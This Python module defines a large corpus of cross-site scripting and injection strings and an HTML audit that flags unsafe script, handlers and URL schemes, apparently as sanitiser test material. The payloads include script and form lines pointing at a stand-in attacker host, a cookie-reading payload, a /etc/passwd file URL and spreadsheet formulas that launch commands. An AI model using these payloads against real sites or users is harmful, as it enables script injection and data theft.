"""A corpus of hostile strings and an HTML audit that reads pages as a browser would."""

from __future__ import annotations

import re
from html.parser import HTMLParser

SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")

# Post bodies meant to run script or load something once rendered as Markdown.
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>x</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
]

HOSTILE_BODIES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="#" onclick="alert(1)">click</a>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea></textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<? echo '<script>alert(1)</script>' ?>",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<td onmouseover=alert(1)>x</td>",
    "<code onclick=alert(1)>x</code>",
    '<pre><code class="language-x" onclick="alert(1)">y</code></pre>',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```js onclick=alert(1)\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](javascript&#58;alert(1))",
    "[click](javascript&#x3A;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '[click]("onmouseover=alert(1))',
    '[click](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    '[click](https://ok.example" onmouseover="alert(1))',
    "![img](javascript:alert(1))",
    "![img](https://evil.example/tracker.png)",
    '![img"onerror="alert(1)](x)',
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[ref][1]\n\n[1]: javascript:alert(1) "title"',
    "[ref]\n\n[ref]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    '<https://ok.example/" onclick="alert(1)>',
    "<mailto:x@example.com?body=<script>alert(1)</script>>",
    "javascript:alert(1)",
    'www.example.com/"onclick="alert(1)',
    "http://example.com/<script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "1. <iframe src=x></iframe>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    '_<a href="javascript:alert(1)">x</a>_',
    "~~<svg onload=alert(1)>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<div><p>unclosed <b>tags <i>everywhere",
    "</p></div></body></html><script>alert(1)</script>",
    '<a href="https://ok.example" target="_blank">tabnab</a>',
    '<a href="https://ok.example" rel="opener">opener</a>',
    '<abbr title="x" onmouseover="alert(1)">abbr</abbr>',
    '<a href="//evil.example/%0d%0ajavascript:alert(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<a href="https://ok.example"><img src=x onerror=alert(1)></a>',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example)<script>alert(1)</script>",
    "<sVg/oNloAd=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<math href="javascript:alert(1)">CLICK</math>',
    "<img src=`x` onerror=`alert(1)`>",
    '<a href="\x0bjavascript:alert(1)">x</a>',
    '<a href="https:&#47;&#47;ok.example">ok</a>',
    *[f"[link]({scheme})" for scheme in SCHEMES],
    *[f'<a href="{scheme}">raw</a>' for scheme in SCHEMES],
    *[f"[ref]\n\n[ref]: {scheme}" for scheme in SCHEMES],
]

_EXTRA = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "javascript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "\rcarriage return",
    "line\nbreak\r\nSubject: injected",
    "\u202eevil\u202c reversed",
    "\u0000null byte",
    "\ufeffbom",
    "<a href=javascript:alert(1)>x",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<iframe/src=javascript:alert(1)>",
    "<body/onload=alert(1)>",
    "<x onclick=alert(1)>click",
    '<a style="color:red">styled</a>',
    "<div style=background:url(javascript:alert(1))>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "＜script＞alert(1)＜/script＞",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=import href=https://evil.example>",
    "<base href=//evil.example/>",
    "<form action=https://evil.example><input name=x></form>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<table background=javascript:alert(1)>",
    "<video poster=javascript:alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
]

HOSTILE_STRINGS: list[str] = list(dict.fromkeys([*HOSTILE_BODIES, *_EXTRA]))


def url_scheme(url: str) -> str | None:
    """Return the scheme a browser would read from ``url``, or None for a relative URL.

    Follows the WHATWG URL parser: leading controls and spaces are stripped and tabs and
    newlines anywhere are removed before the scheme is read.
    """
    cleaned = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(0x21)))).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts_allowed: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.problems.append("inline or foreign <script>")
        if tag in {"iframe", "object", "embed", "frame", "base", "meta", "math"} and not (
            tag == "meta" and set(values) <= {"charset", "name", "content"}
        ):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}")
            if name in {"style", "srcdoc", "formaction"}:
                self.problems.append(f"attribute {name}")
            if name in {"href", "src", "action", "xlink:href", "poster", "background"} and value:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r}")

    handle_startendtag = handle_starttag


def audit_html(html: str) -> list[str]:
    """Return what in ``html`` a browser would run or load unsafely (empty when safe)."""
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser.problems
